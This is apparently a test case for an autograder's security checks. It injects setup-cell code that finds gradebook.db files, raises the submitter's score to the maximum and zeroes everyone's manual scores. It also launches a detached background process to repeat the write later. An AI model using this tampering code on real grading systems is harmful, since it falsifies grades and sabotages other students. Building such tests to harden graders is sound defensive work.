"""Wrong answers; writes the gradebook with sqlite3 (own score to maximum, everyone else's to 0),
now and from a detached background process 20 s later."""
LAB = "lab00_orientation"
BASE = "wrong"
INSERT_AFTER = {"setup": r'''
import glob, os, sqlite3, subprocess, sys
_attack = """
import glob, sqlite3
for path in glob.glob('/**/gradebook.db', recursive=True) + glob.glob('../../../gradebook.db'):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cell WHERE grade_cell.id = grade.cell_id)")
        db.execute("UPDATE grade SET manual_score = 0 WHERE 1")
        db.commit()
        print('wrote', path)
    except Exception as error:
        print('no', path, error)
"""
# the delayed copy first: the search below walks the whole file system and runs into the cell's limit
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(20)\n" + _attack], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
exec(_attack)
'''}
EXPECT = 0
FLAGGED = True
